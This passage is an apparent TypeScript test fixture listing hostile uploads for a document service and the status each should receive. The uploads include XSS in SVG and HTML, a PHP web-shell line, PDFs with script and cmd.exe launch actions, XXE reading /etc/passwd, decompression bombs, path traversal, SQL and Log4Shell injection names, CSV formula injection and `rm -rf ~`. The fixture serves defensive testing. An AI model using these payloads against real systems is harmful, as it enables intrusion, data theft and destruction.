import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import * as b from './builders.ts';

const { joined, latin, utf8, MARK } = b;

/** HTTP status, and the code of the problem where there is one. */
export type Answer = readonly [status: number, code?: string];

/** A file that means harm, or looks as if, and what is answered. Whatever is refused leaves nothing behind. */
export interface HostileFile {
  readonly name: string;
  /** What somebody would gain by it, or why it has to pass. */
  readonly what: string;
  readonly bytes: () => Buffer | Promise<Buffer>;
  readonly answer: Answer;
  /** The answer of a machine on which it takes too long. */
  readonly or?: Answer;
  /** What the form calls it. Default `file`. */
  readonly fileName?: Buffer | string;
  /** What the form says it is. */
  readonly type?: string;
  /** As what it is kept, where it is taken. */
  readonly mediaType?: string;
  /** Taken as it came, not written anew. */
  readonly asItCame?: boolean;
}

/** A body sent as it stands. */
export interface HostileBody {
  readonly name: string;
  readonly what: string;
  readonly type: string;
  readonly body: () => Buffer;
  readonly headers?: Readonly<Record<string, string>>;
  readonly answer: Answer;
}

const NO_TYPE: Answer = [415, 'UNSUPPORTED_MEDIA_TYPE'];
const BROKEN: Answer = [422, 'INVALID_DATA'];
const LARGE: Answer = [413, 'BODY_TOO_LARGE'];
const TAKEN: Answer = [201];

type Short = readonly [name: string, what: string, bytes: () => Buffer | Promise<Buffer>];
const each = (answer: Answer, rows: readonly Short[], more: Partial<HostileFile> = {}): HostileFile[] =>
  rows.map(([name, what, bytes]) => ({ name, what, bytes, answer, ...more }));
const text = (words: string) => () => utf8(words);
const bin = (words: string) => () => latin(words);

/** What is no kind of document that is taken. */
const otherKinds = each(NO_TYPE, [
  ['svg with a script', 'a picture that runs', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['svg behind a declaration', 'the same', text('<?xml version="1.0"?><svg onload="alert(1)"/>')],
  ['svg behind a comment', 'the same, past a look at the first word', text('<!-- x --><svg onload="alert(1)"/>')],
  ['svg behind a byte order mark', 'the same', text('\ufeff<svg onload="alert(1)"/>')],
  ['svg behind a zero-width space', 'the same', text('\u200b<svg onload="alert(1)"/>')],
  ['html page', 'a page on our own address', text('<!DOCTYPE html><script>alert(1)</script>')],
  ['html behind blanks', 'the same', text('\n\n  <html><body onload="alert(1)">')],
  ['html that begins with a body', 'the same', text('<body onload="alert(1)">')],
  ['html frame', 'the same', text('<iframe src="javascript:alert(1)">')],
  ['html picture', 'the same', text('<img src=x onerror=alert(1)>')],
  ['mathml', 'the same', text('<math><maction actiontype="statusline#http://x">x</maction></math>')],
  ['stylesheet in xml', 'a transformation with code', text('<?xml-stylesheet href="x"?><a/>')],
  ['php', 'code, where a server runs uploads', text('<?php system($_GET["c"]); ?>')],
  ['jsp', 'the same', text('<% Runtime.getRuntime().exec("id"); %>')],
  [
    'html in UTF-16',
    'past a look at letters',
    () => joined('\xff\xfe', Buffer.from('<script>alert(1)</script>', 'utf16le')),
  ],
  ['program for Linux', 'to be run', bin('\x7fELF\x02\x01\x01')],
  ['program for Windows', 'to be run', bin('MZ\x90\x00\x03')],
  ['program for macOS', 'to be run', bin('\xcf\xfa\xed\xfe\x07')],
  ['java class', 'to be run', bin('\xca\xfe\xba\xbe\x00\x00\x00\x34')],
  ['webassembly', 'to be run', bin('\x00asm\x01\x00\x00\x00')],
  ['flash', 'to be run', bin('FWS\x09\x00\x00\x00\x00')],
  ['shortcut of Windows', 'starts another program', bin('L\x00\x00\x00\x01\x14\x02\x00')],
  ['archive zip', 'anything inside', () => b.zipOf([{ name: 'a.txt', bytes: 'a' }])],
  [
    'archive that unpacks to 64 MiB',
    'fills a disk that unpacks',
    () => b.zipOf([{ name: 'a', bytes: Buffer.alloc(64 << 20) }]),
  ],
  [
    'archive in an archive',
    'the same',
    () => b.zipOf([{ name: 'a.zip', bytes: b.zipOf([{ name: 'b', bytes: 'b' }]) }]),
  ],
  ['document of Word', 'may hold macros', () => b.zipOf([{ name: 'word/document.xml', bytes: '<w/>' }])],
  ['old document of Word', 'may hold macros', bin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
  ['archive rar', 'anything inside', bin('Rar!\x1a\x07\x01\x00')],
  ['archive 7z', 'anything inside', bin("7z\xbc\xaf'\x1c\x00\x04")],
  ['archive gzip', 'anything inside', () => gzipSync('a')],
  ['archive tar', 'anything inside', () => joined('a.txt', Buffer.alloc(95), '0000644\x00', Buffer.alloc(404))],
  ['archive bzip2', 'anything inside', bin('BZh91AY&SY\x00\x01')],
  ['archive xz', 'anything inside', bin('\xfd7zXZ\x00\x00')],
  ['database', 'anything inside', bin('SQLite format 3\x00')],
  ['tiff', 'a decoder with a long history', bin('II*\x00\x08\x00\x00\x00')],
  ['bmp', 'a kind that is not needed', bin('BM\x46\x00\x00\x00\x00\x00')],
  ['icon', 'a kind that is not needed', bin('\x00\x00\x01\x00\x01\x00')],
  ['photoshop', 'a kind that is not needed', bin('8BPS\x00\x01\x00\x00')],
  [
    'heic',
    'what a telephone keeps and few can open; it sends JPEG when asked',
    bin('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00'),
  ],
  ['avif', 'a kind that is not needed', bin('\x00\x00\x00\x1cftypavif\x00\x00\x00\x00')],
  ['jpeg xl', 'a kind that is not needed', bin('\xff\x0a\xfa\x7f\x90\x00\x00')],
  ['avi', 'begins like a sound', bin('RIFF\x24\x00\x00\x00AVI LIST')],
  ['pdf behind other bytes', 'a PDF that also is something else', () => joined('MZ\x90\x00', b.pdf())],
  ['text with a zero byte', 'ends early where strings do', text('a\0b')],
  ['text with signs for a terminal', 'writes over the screen of whoever reads it', text('a\u001b[2J\u001b]0;x\u0007')],
  ['text that is no UTF-8', 'cannot be read by everybody', bin('\xb9\xab\xca\xbe')],
  ['text in an overlong form', 'a slash that no filter sees', bin('..\xc0\xaf..\xc0\xaf')],
  ['text with half a sign', 'breaks who reads on', bin('a\xed\xa0\x80b')],
]);

/** Pictures that are none, or not whole. */
const brokenPictures = each(BROKEN, [
  ['jpeg of eleven bytes', 'a name without a picture', bin('\xff\xd8\xff\xe0\x00\x10JFIF\x00')],
  [
    'jpeg with a page behind its first bytes',
    'a page with the name of a picture',
    () => joined('\xff\xd8\xff\xe0', '<script>alert(1)</script>'),
  ],
  ['jpeg cut off in the middle', 'half a paper is no paper', async () => (await b.noise()).subarray(0, 9_000)],
  ['jpeg without width', 'divides by zero', () => b.jpegSized(0, 20)],
  ['jpeg without height', 'asks for as many lines as there are', () => b.jpegSized(40, 0)],
  ['jpeg of nothing but its end', 'a name without a picture', bin('\xff\xd8\xff\xd9')],
  ['jpeg with a segment longer than the file', 'reads beyond the end', bin('\xff\xd8\xff\xe1\xff\xff\x00')],
  ['png that says 2147483647 × 1', 'a line longer than numbers', () => longPng()],
  ['png of eight bytes', 'a name without a picture', bin('\x89PNG\r\n\x1a\n')],
  ['png of no size', 'divides by zero', () => b.blankPng(0, 0)],
  ['png with fewer lines than it says', 'shows what lay in memory', () => b.blankPng(2_000, 2_000, [], 10)],
  [
    'png with a chunk of four gigabytes',
    'reads beyond the end',
    () => joined('\x89PNG\r\n\x1a\n', '\xff\xff\xff\xffIHDR', '\x00'.repeat(20)),
  ],
  [
    'png with a wrong check sum',
    'altered on its way',
    () => {
      const bytes = b.blankPng(8, 8);
      bytes[20] = 0x7f;
      return bytes;
    },
  ],
  [
    'png whose pixels are no zlib',
    'a decoder gone astray',
    () =>
      joined(
        '\x89PNG\r\n\x1a\n',
        b.chunk('IHDR', joined(b.u32(8), b.u32(8), '\x08\x02\x00\x00\x00')),
        b.chunk('IDAT', 'x'.repeat(50)),
        b.chunk('IEND', ''),
      ),
  ],
  ['gif of six bytes', 'a name without a picture', bin('GIF89a')],
  ['gif without a frame', 'a picture of nothing', () => b.gif(10, 10, 0)],
  ['gif that is a script', 'runs as a script and shows as a picture', bin('GIF89a/*\x00\x00*/=1;alert(1)//')],
  ['webp of twelve bytes', 'a name without a picture', bin('RIFF\x04\x00\x00\x00WEBP')],
  ['webp cut off in the middle', 'half a picture', async () => (await b.webp()).subarray(0, 60)],
  ['webp whose length lies', 'reads beyond the end', bin('RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff\x00\x00')],
  [
    'webp of a huge canvas and no frame',
    'fills the memory',
    () =>
      joined(
        'RIFF',
        '\x16\x00\x00\x00',
        'WEBPVP8X',
        '\x0a\x00\x00\x00',
        '\x02\x00\x00\x00',
        '\xff\x3f\x00\xff\x3f\x00',
      ),
  ],
]);

/** Pictures that are small as files and huge in memory. */
const bombs = each(LARGE, [
  ['jpeg that says 65500 × 65500', '12 GiB of pixels from one kilobyte', () => b.jpegSized(65_500, 65_500)],
  ['png of 30000 × 30000, all there', '900 million pixels from 110 kilobytes', () => b.blankPng(30_000, 30_000)],
  ['gif of 200 frames of a million', 'the same frame by frame', () => b.gif(1_000, 1_000, 200)],
]);

function longPng(): Buffer {
  const about = joined(b.u32(0x7fff_ffff), b.u32(1), Buffer.from([1, 0, 0, 0, 0]));
  return joined('\x89PNG\r\n\x1a\n', b.chunk('IHDR', about), b.chunk('IDAT', Buffer.alloc(20)), b.chunk('IEND', ''));
}

/** Pictures as people send them, with what must not be kept: they pass, and the mark is gone. */
const cleaned: HostileFile[] = [
  ...each(
    TAKEN,
    [
      ['jpeg with place and device', 'says where somebody lives', () => b.jpegWith([b.segment(0xe1, b.exif(1))])],
      [
        'jpeg that lies on its side',
        'the same, turned as the camera was held',
        () => b.jpegWith([b.segment(0xe1, b.exif(6))]),
      ],
      [
        'jpeg with an exif that goes in circles',
        'holds up who reads it',
        () =>
          b.jpegWith([
            b.segment(0xe1, joined('Exif\0\0II*\0', '\x08\0\0\0', '\x01\0', '\0'.repeat(12), '\x08\0\0\0', MARK)),
          ]),
      ],
      [
        'jpeg with xmp',
        'a script in what programs read beside',
        () => b.jpegWith([b.segment(0xe1, `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${MARK}<script/></x:xmpmeta>`)]),
      ],
      [
        'jpeg with captions for newspapers',
        'names and places',
        () => b.jpegWith([b.segment(0xed, `Photoshop 3.0\0${MARK}`)]),
      ],
      [
        'jpeg with a comment in php',
        'code, where a server runs uploads',
        () => b.jpegWith([b.segment(0xfe, `<?php /* ${MARK} */ ?>`)]),
      ],
      [
        'jpeg with an archive behind it',
        'a picture that also is an archive',
        () => b.jpegWith([], b.zipOf([{ name: MARK, bytes: MARK, stored: true }])),
      ],
      [
        'jpeg with a page behind it',
        'a picture that also is a page',
        () => b.jpegWith([], `<script>/* ${MARK} */</script>`),
      ],
      [
        'jpeg with a film behind it',
        'a live photo, with its own places',
        () => b.jpegWith([], b.film('mp42', b.box('udta', MARK))),
      ],
      [
        'jpeg with a second jpeg behind it',
        'a small preview, with its own places',
        async () => b.jpegWith([], await b.jpegWith([b.segment(0xe1, b.exif(1))])),
      ],
      ['jpeg in the colours of print', 'an honest scan', () => b.cmyk()],
    ],
    { mediaType: 'image/jpeg' },
  ),
  ...each(
    TAKEN,
    [
      [
        'png with place and device',
        'says where somebody lives',
        async () => pngWith([b.chunk('eXIf', b.exif(1).subarray(6))]),
      ],
      [
        'png with texts',
        'names and places',
        async () =>
          pngWith([b.chunk('tEXt', `Comment\0${MARK}`), b.chunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${MARK}`)]),
      ],
      [
        'png with a program behind it',
        'a picture that also is a program',
        async () => joined(await b.png(), `MZ ${MARK}`),
      ],
      ['png with a chunk nobody knows', 'a place to hide', async () => pngWith([b.chunk('hiDe', MARK)])],
      [
        'png with text that unpacks to 60 MiB',
        'fills the memory',
        async () =>
          pngWith([b.chunk('zTXt', joined('a\0\0', (await import('node:zlib')).deflateSync(Buffer.alloc(60 << 20))))]),
      ],
      ['png of 4000 × 3000', 'an honest scan', () => b.blankPng(4_000, 3_000)],
    ],
    { mediaType: 'image/png' },
  ),
  ...each(
    TAKEN,
    [
      ['gif with a comment', 'a place to hide', () => b.gif(10, 10, 3, MARK)],
      [
        'gif that says 65535 × 65535',
        'its one frame counts, not what it says of its canvas',
        () => b.gif(65_535, 65_535, 1),
      ],
    ],
    { mediaType: 'image/gif' },
  ),
  ...each(TAKEN, [['webp with place and device', 'says where somebody lives', () => b.markedWebp()]], {
    mediaType: 'image/webp',
  }),
];

async function pngWith(chunks: readonly Buffer[]): Promise<Buffer> {
  const bytes = await b.png();
  return joined(bytes.subarray(0, 33), ...chunks, bytes.subarray(33));
}

const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** PDF that acts by itself or that nobody opens in twenty years. */
const pdfs: HostileFile[] = [
  ...each(BROKEN, [
    ['pdf with a script', 'runs when it is opened', () => b.pdf(script)],
    [
      'pdf with a script in other letters',
      'the same, escaped',
      () => b.pdf(script.replace('/JavaScript', '/J#61vaScr#69pt')),
    ],
    [
      'pdf with a script packed away',
      'the same, in a list of objects',
      () => b.pdf('', [b.packedObjects(`1 0 << ${script} >>`)]),
    ],
    [
      'pdf with a script packed away in other letters',
      'the same, escaped',
      () => b.pdf('', [b.packedObjects(`1 0 << ${script} >>`, '/Type /Obj#53tm /Filter /FlateDecode')]),
    ],
    [
      'pdf with a script behind a false beginning',
      'the same, past who counts beginnings',
      () => b.pdf('', [b.packedObjects(`1 0 << ${script} >>`, '/Type /ObjStm %stream\n /Filter /FlateDecode')]),
    ],
    ['pdf that starts a program', 'runs when it is opened', () => b.pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    [
      'pdf that sends a form',
      'tells others that it was opened',
      () => b.pdf('/OpenAction << /S /SubmitForm /F (http://x) >>'),
    ],
    ['pdf that fetches data', 'the same', () => b.pdf('/OpenAction << /S /ImportData /F (x.fdf) >>')],
    [
      'pdf with a film',
      'a player with a long history',
      () => b.pdf('', ['4 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n']),
    ],
    [
      'pdf that plays a rendition',
      'a film, or a script in its place',
      () => b.pdf('/OpenAction << /S /Rendition /OP 0 >>'),
    ],
    [
      'pdf with a film of the old kind',
      'the same',
      () => b.pdf('', ['4 0 obj\n<< /Type /Annot /Subtype /Movie >>\nendobj\n']),
    ],
    ['pdf that sounds', 'the same', () => b.pdf('/OpenAction << /S /Sound /Sound 5 0 R >>')],
    [
      'pdf whose script is told by its key alone',
      'its kind stands elsewhere, where nobody looks',
      () => b.pdf('/OpenAction << /S 5 0 R /JS (app.alert\\(1\\)) >>'),
    ],
    [
      'pdf with such a script in other letters, elsewhere',
      'the same',
      () => b.pdf('', [b.packedObjects('1 0 << /S 5 0 R /J#53\n7 0 R >>')]),
    ],
    ['pdf with a form of scripts', 'runs when it is opened', () => b.pdf('/AcroForm << /XFA 5 0 R >>')],
    ['pdf that is locked', 'a paper nobody opens in twenty years', () => b.pdf('', [], '/Encrypt 7 0 R')],
    ['pdf that is locked in place', 'the same', () => b.pdf('', [], '/Encrypt<< /Filter /Standard >>')],
    ['pdf that unpacks to 64 MiB', 'fills the memory', () => b.pdf('', [b.packedObjects(Buffer.alloc(64 << 20, 32))])],
    [
      'pdf of forty lists of 31 MiB that break off',
      'works for minutes, and never comes to an end of one',
      () => b.pdf('', Array<Buffer>(40).fill(b.brokenOffObjects(31 << 20))),
    ],
    [
      'pdf whose list cannot be unpacked',
      'hides what it holds',
      () => b.pdf('', ['8 0 obj\n<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxxxxxx\nendstream\nendobj\n']),
    ],
  ]),
  ...each(
    TAKEN,
    [
      ['pdf with a table inside', 'an honest electronic invoice', () => b.pdf('/Names << /EmbeddedFiles 5 0 R >>')],
      [
        'pdf with an archive behind it',
        'kept as it came, never opened, given out to be saved',
        () => joined(b.pdf(), b.zipOf([{ name: 'a', bytes: 'a' }])),
      ],
      ['pdf with a page behind it', 'the same', () => joined(b.pdf(), '<script>alert(1)</script>')],
      ['pdf that names a script in its text', 'an honest paper about JavaScript', () => b.pdf('/Title (JavaScript)')],
      ['pdf of a scan that holds four letters by chance', 'an honest scan', () => b.pdf('', ['/JS(\x93\x01\xfe\x80'])],
    ],
    { mediaType: 'application/pdf', asItCame: true },
  ),
];

/** Recordings of telephones. */
const films: HostileFile[] = [
  ...each(
    TAKEN,
    ['mp42', 'isom', 'iso2', 'iso3', 'iso4', 'iso5', 'iso6', 'avc1', 'M4V '].map((brand) => [
      `mp4 with its place, as ${brand}`,
      'says where somebody lives',
      () => b.film(brand, b.box('udta', b.box('\xa9xyz', MARK))),
    ]),
    { mediaType: 'video/mp4' },
  ),
  ...each(
    TAKEN,
    [['mov with its place', 'the same', () => b.film('qt  ', b.box('meta', MARK), b.box('trak', b.box('udta', MARK)))]],
    { mediaType: 'video/quicktime' },
  ),
  ...each(TAKEN, [['3gp with its place', 'the same', () => b.film('3gp4', b.box('udta', b.box('loci', MARK)))]], {
    mediaType: 'video/3gpp',
  }),
  ...each(TAKEN, [['m4a called by its place', 'the same', () => b.film('M4A ', b.box('udta', b.box('meta', MARK)))]], {
    mediaType: 'audio/mp4',
  }),
  ...each(TAKEN, [['mp4 with ten thousand boxes in one another', 'fills the stack', () => nested(10_000)]], {
    mediaType: 'video/mp4',
  }),
  ...each(BROKEN, [
    ['mp4 cut off in the middle', 'half a recording', () => b.film('mp42').subarray(0, 30)],
    ['mp4 with a box shorter than its head', 'goes round for ever', () => joined(b.film('mp42'), b.u32(4), 'free')],
    [
      'mp4 with a box of 2⁶³ bytes',
      'a length longer than numbers',
      () => joined(b.film('mp42'), b.u32(1), 'free', '\x7f'.repeat(8)),
    ],
    [
      'mp4 with a box beyond its parent',
      'reads beyond the end',
      () => joined(b.box('ftyp', 'mp42\0\0\0\0'), b.box('moov', b.u32(99), 'udta'), 'x'.repeat(99)),
    ],
  ]),
];

/** Sound in frames. */
const sounds: HostileFile[] = [
  ...each(
    TAKEN,
    [
      ['mp3 of frames alone', 'an honest recording', () => joined(b.mp3Frame(), b.mp3Frame(), b.mp3Frame())],
      [
        'mp3 between notes, its last frame cut off',
        'an honest recording',
        () => joined(b.id3('TIT2'), '\0\0', b.mp3Frame(), b.mp3Frame().subarray(0, 90)),
      ],
      ['mp3 with notes behind it', 'an honest recording', () => joined(b.mp3Frame(), 'TAG', Buffer.alloc(125))],
    ],
    { mediaType: 'audio/mpeg', asItCame: true },
  ),
  ...each(TAKEN, [['aac', 'an honest recording', () => joined(b.aacFrame(), b.aacFrame(2_000), b.aacFrame())]], {
    ...{ mediaType: 'audio/aac', asItCame: true },
  }),
  ...each(BROKEN, [
    ['mp3 of its first letters', 'a name without a recording', bin('\xff\xfb\x90')],
    ['mp3 of a rate that does not exist', 'divides by nothing', bin('\xff\xfb\x9c\x00\x00\x00\x00\x00')],
    [
      'mp3 with a page behind its first frame',
      'a page with the name of a recording',
      () => joined(b.mp3Frame(), '<script>alert(1)</script>'),
    ],
    ['mp3 of nothing but notes', 'anything, called a recording', () => b.id3('<script>alert(1)</script>')],
    ['mp3 with notes longer than the file', 'reads beyond the end', () => joined(b.id3('', 0x0fff_ffff), b.mp3Frame())],
    [
      'aac with a program behind its first frame',
      'a program with the name of a recording',
      () => joined(b.aacFrame(), 'MZ\x90\x00\x03\x00\x00\x00'),
    ],
    ['aac of frames of no length', 'goes round for ever', () => joined('\xff\xf1\x50\x80\x00\x1f\xfc'.repeat(9))],
  ]),
];

function nested(depth: number): Buffer {
  const heads = Array.from({ length: depth }, (_, n) => joined(b.u32((depth - n) * 8), 'moov'));
  return joined(b.box('ftyp', 'mp42\0\0\0\0'), ...heads);
}

/** Texts that would mean harm elsewhere: kept as texts, given out to be saved as `.txt`. */
const texts = each(
  TAKEN,
  [
    ['script for a shell', 'run by nobody: it comes back as text to be saved', text('#!/bin/sh\nrm -rf ~\n')],
    ['script for Windows', 'the same', text('@echo off\r\ndel /q *\r\n')],
    ['formula', 'the same: a text, no sheet', text("=cmd|'/c calc'!A0")],
    ['rich text', 'the same', text('{\\rtf1\\object\\objocx}')],
    ['page in UTF-7', 'the same: no browser is told to guess', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
    ['text turned right to left', 'the same', text('a\u202etxt.exe')],
    [
      'what virus scanners are tested with',
      'kept: nothing here looks for viruses (docs/asvs.md, V5.4.3)',
      text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
    ],
  ],
  { mediaType: 'text/plain; charset=utf-8', asItCame: true },
);

/** Names and kinds that a form claims: neither is believed, and neither is kept. */
const names = (
  [
    ['a path upwards', '../../../../etc/cron.d/x.jpg'],
    ['a path of Windows', 'C:\\Windows\\System32\\x.jpg'],
    ['a zero byte', 'a.php\0.jpg'],
    ['two endings', 'a.jpg.php'],
    ['an ending turned right to left', 'photo\u202egpj.exe'],
    ['a name of a device', 'CON'],
    ['a page', '<img src=x onerror=alert(1)>.jpg'],
    ['a statement', "x'); DROP TABLE documents;--.jpg"],
    ['a name of 4000 letters', `${'a'.repeat(4_000)}.jpg`],
    ['bytes that are no UTF-8', latin('\xff\xfe\xfd.jpg')],
    ['a place in a template', '{{constructor.constructor(alert)()}}.jpg'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what such a name looks like
    ['an expression for a log', '${jndi:ldap://x/a}.jpg'],
  ] as const
).map(
  ([name, fileName]): HostileFile => ({
    ...{ name: `called by ${name}`, what: 'names are neither used nor kept', fileName, mediaType: 'image/jpeg' },
    bytes: () => b.jpegWith([b.segment(0xfe, MARK)]),
    answer: TAKEN,
  }),
);
const claims = ['text/html', 'application/x-php', 'image/svg+xml', '*/*; charset=\u202e'].map(
  (type): HostileFile => ({
    ...{ name: `claims to be ${JSON.stringify(type)}`, what: 'kinds are not believed', type, mediaType: 'image/jpeg' },
    bytes: () => b.jpegWith([b.segment(0xfe, MARK)]),
    answer: TAKEN,
  }),
);
const sizes: HostileFile[] = [
  {
    ...{ name: 'called by a quote that ends it early', what: 'a header that says something else' },
    ...{ fileName: 'a.jpg" "', bytes: () => b.jpeg(), answer: [400, 'MALFORMED'] },
  },
  { name: 'nothing at all', what: 'a file of no bytes', bytes: () => Buffer.alloc(0), answer: BROKEN },
  {
    name: 'one byte more than 20 MiB',
    what: 'more than is taken',
    bytes: () => Buffer.alloc(20 * 1024 * 1024 + 1, 65),
    answer: LARGE,
  },
];

/** Sent as documents of a case. */
export const documents: readonly HostileFile[] = [
  ...otherKinds,
  ...brokenPictures,
  ...bombs,
  ...cleaned,
  ...pdfs,
  ...films,
  ...sounds,
  ...texts,
  ...names,
  ...claims,
  ...sizes,
];

const XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'bcdefghij'[n]} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]>`;
const line = (cell: string, columns = 3) =>
  `${b.HEADING.join(',')}\n${Array.from({ length: columns }, () => cell).join(',')}\n`;
const zeros = (mib: number) => Buffer.alloc(mib << 20);
const sheetXml = 'xl/worksheets/sheet1.xml';

/** Sent to each way lists come in by: cases, organisation, statements of banks, and the page. */
export const sheets: readonly HostileFile[] = [
  ...each(LARGE, [
    [
      'workbook that unpacks to 65 MiB',
      'fills the memory',
      () => b.workbook({ more: [{ name: 'xl/a.xml', bytes: zeros(65) }] }),
    ],
    [
      'workbook that unpacks to 65 MiB and says one byte',
      'the same, past who believes sizes',
      () => b.workbook({ more: [{ name: 'xl/a.xml', bytes: zeros(65), says: [undefined, 1] }] }),
    ],
    [
      'workbook of 300 files',
      'more than anything needs',
      () => b.workbook({ more: Array.from({ length: 300 }, (_, n) => ({ name: `a${n}`, bytes: '' })) }),
    ],
    ['workbook of files that lie on one another', 'one megabyte a hundred times', () => overlapping()],
    [
      'sheet with a cell at its far end',
      'a grid of 17 thousand million cells',
      () =>
        b.workbook({
          rows: `${b.cells(b.HEADING, 1)}<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>`,
        }),
    ],
    [
      'sheet of 6000 rows',
      'more than is taken',
      () => b.workbook({ rows: Array.from({ length: 6_000 }, (_, n) => b.cells(['a', 'b'], n + 1)).join('') }),
    ],
    ['sheet of 20000 empty rows', 'the same, of nothing', () => b.workbook({ rows: '<row/>'.repeat(20_000) })],
    ['text of 8 MiB and one byte', 'more than is taken', () => Buffer.alloc(8 * 1024 * 1024 + 1, 65)],
    ['text of 6000 rows', 'more than is taken', () => utf8(`${b.HEADING.join(',')}\n${'a,b,c\n'.repeat(6_000)}`)],
    [
      'text of 300 columns',
      'more than is taken',
      () => utf8(`${Array.from({ length: 300 }, (_, n) => `c${n}`).join(',')}\n`),
    ],
    ['text of one cell of 30000 letters', 'more than is taken', () => utf8(line('字'.repeat(30_000)))],
    ['text of one line of 7 MiB', 'more than is taken', () => Buffer.alloc(7 << 20, 65)],
  ]),
  ...each(
    LARGE,
    [
      [
        'text of a quarter of a million empty rows',
        'the same, of nothing',
        () => utf8(`${b.HEADING.join(',')}\n${'\n'.repeat(250_000)}`),
      ],
    ],
    { or: BROKEN },
  ),
  ...each(BROKEN, [
    ['workbook that fetches a file', 'reads what only the server can', () => b.workbook({ sheet: b.sheetAfter(XXE) })],
    ['workbook of a thousand million laughs', 'fills the memory', () => b.workbook({ sheet: b.sheetAfter(LAUGHS) })],
    [
      'workbook that fetches a file in lower case',
      'the same',
      () => b.workbook({ sheet: b.sheetAfter(XXE.replace('DOCTYPE', 'doctype')) }),
    ],
    [
      'workbook that fetches a file in UTF-16',
      'the same, past a look at letters',
      () => b.workbook({ sheet: joined('\xff\xfe', Buffer.from(b.sheetAfter(XXE), 'utf16le')) }),
    ],
    [
      'workbook with definitions elsewhere',
      'the same, in another part',
      () => b.workbook({ parts: { 'xl/styles.xml': `<?xml version="1.0"?>${XXE}<styleSheet/>` } }),
    ],
    [
      'workbook whose sheet has no end',
      'a reader that begins anew for ever',
      () => b.workbook({ sheet: `<worksheet><sheetData>${'<'.repeat(200_000)}` }),
    ],
    [
      'workbook with a tag of a megabyte',
      'the same',
      () => b.workbook({ sheet: `<worksheet a="${'x'.repeat(1 << 20)}"/>` }),
    ],
    [
      'workbook that is locked',
      'cannot be read',
      () => b.zipOf([{ name: '[Content_Types].xml', bytes: 'x', flags: 1 }]),
    ],
    [
      'workbook packed in a way nobody knows',
      'cannot be read',
      () => b.zipOf([{ name: '[Content_Types].xml', bytes: 'x', method: 12 }]),
    ],
    ['workbook without an end', 'cut off', () => b.workbook().subarray(0, 600)],
    [
      'workbook whose directory points beyond',
      'reads beyond the end',
      () => b.zipOf([{ name: 'a', bytes: 'a', at: 0xffff_fff0 }]),
    ],
    [
      'workbook that says it holds 60000 bytes more',
      'reads beyond the end',
      () => b.zipOf([{ name: 'a', bytes: 'a', says: [60_000, 1] }]),
    ],
    [
      'workbook that says it holds more files than it does',
      'reads beyond the end',
      () => b.zipOf([{ name: 'a', bytes: 'a' }], { count: 9 }),
    ],
    [
      'workbook with one name twice',
      'shows one thing and reads another',
      () => b.workbook({ more: [{ name: sheetXml, bytes: '<a/>' }] }),
    ],
    ['archive of nothing', 'no workbook', () => b.zipOf([])],
    ['archive of other things', 'no workbook', () => b.zipOf([{ name: 'word/document.xml', bytes: '<a/>' }])],
    ['archive in an archive', 'no workbook', () => b.zipOf([{ name: 'a.xlsx', bytes: b.workbook() }])],
    [
      'archive with paths upwards',
      'no workbook, and nothing is written',
      () => b.zipOf([{ name: '../../../../tmp/x', bytes: 'a' }]),
    ],
    [
      'archive with names of our language',
      'changes what every object is',
      () => b.zipOf(['__proto__', 'constructor', 'prototype/x'].map((name) => ({ name, bytes: '<a/>' }))),
    ],
    ['old workbook', 'may hold macros', bin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
    ['picture', 'no table', () => b.jpeg()],
    ['pdf', 'no table', () => b.pdf()],
    ['program', 'no table', bin('\x7fELF\x02\x01\x01\x00\x00')],
    ['text with a zero byte', 'ends early where strings do', text(line('a\0b'))],
    [
      'text with a quote that never ends',
      'a row as long as the file',
      text(`${b.HEADING.join(',')}\n"a,b,c\n${'d,e,f\n'.repeat(50)}`),
    ],
    ['text with a column twice', 'shows one thing and reads another', text('本人姓名,本人姓名\na,b\n')],
    ['text that ends before it begins', 'no table', text('\n\n\n')],
    ['page that calls itself a sheet', 'no table', text('<html><table><tr><td>x</td></tr></table></html>')],
    ['names of our language as a heading', 'changes what every object is', text('__proto__,constructor\na,b\n')],
    ['nothing at all', 'a file of no bytes', () => Buffer.alloc(0)],
  ]),
];

function overlapping(): Buffer {
  const whole = b.zipOf([{ name: 'a0', bytes: zeros(1) }]);
  const first = whole.subarray(0, whole.indexOf('PK\x01\x02', 0, 'latin1'));
  const packed = first.length - 32;
  const rest = b.zipOf(
    Array.from({ length: 100 }, (_, n) => ({ name: `a${n}`, bytes: '', at: 0, says: [packed, 1] as const })),
  );
  const directory = rest.subarray(rest.indexOf('PK\x01\x02', 0, 'latin1'));
  const bytes = joined(first, directory);
  bytes.writeUInt32LE(first.length, bytes.length - 6);
  return bytes;
}

/** Lists that hold signs which mean harm to whoever opens them later; they are read, and what comes out of them is marked. */
export const lists: readonly HostileFile[] = each(TAKEN, [
  ['text with a formula', 'runs in the sheet of whoever takes the errors away', text(line("=cmd|'/c calc'!A0"))],
  [
    'text with a formula behind a tab',
    'the same',
    text(
      line('\t=HYPERLINK("http://x")')
        .replaceAll('"', '""')
        .replace(/(\t[^,\n]+)/g, '"$1"'),
    ),
  ],
  [
    'workbook with a formula',
    'the same',
    () => b.workbook({ rows: b.cells(b.HEADING, 1) + b.cells(['=1+1', '@SUM(A1)', '+1'], 2) }),
  ],
  [
    'workbook with macros',
    'nothing of it is kept but the cells',
